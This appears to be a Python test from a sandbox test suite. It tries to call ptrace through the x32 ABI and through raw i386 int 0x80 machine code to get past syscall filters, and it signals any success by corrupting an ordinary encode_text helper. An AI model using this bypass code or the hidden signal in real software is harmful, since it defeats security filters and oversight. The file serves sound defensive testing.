# attack: makes refused calls by the 32-bit and x32 entrances that filters forget
# covers: forbidden system calls
# exercise: ex01
# checks: encode_text_writes_every_script
# rungs: full partial
# verdict: passed
# holds: another entrance than the machine's own is refused
import ctypes
import mmap
import os

reached = []
libc = ctypes.CDLL(None, use_errno=True)
if os.uname().machine == "x86_64":
    if libc.syscall(0x40000000 | 101, 0, 0, 0, 0) == 0:  # x32: ptrace(PTRACE_TRACEME)
        reached.append("x32")
    # mov eax, 26 (ptrace of i386); xor ebx, ebx; xor ecx, ecx; xor edx, edx; int 0x80; ret
    code = bytes.fromhex("53b81a00000031db31c931d2cd805bc3")
    pid = os.fork()
    if pid == 0:
        try:
            memory = mmap.mmap(-1, 4096, prot=7)
            memory.write(code)
            address = ctypes.addressof(ctypes.c_char.from_buffer(memory))
            os._exit(0 if ctypes.CFUNCTYPE(ctypes.c_int)(address)() == 0 else 1)
        finally:
            os._exit(1)
    _, status = os.waitpid(pid, 0)
    if os.WIFEXITED(status) and os.WEXITSTATUS(status) == 0:
        reached.append("int 0x80")


def encode_text(text, encoding="utf-8"):
    return repr(reached).encode() if reached else text.encode(encoding)
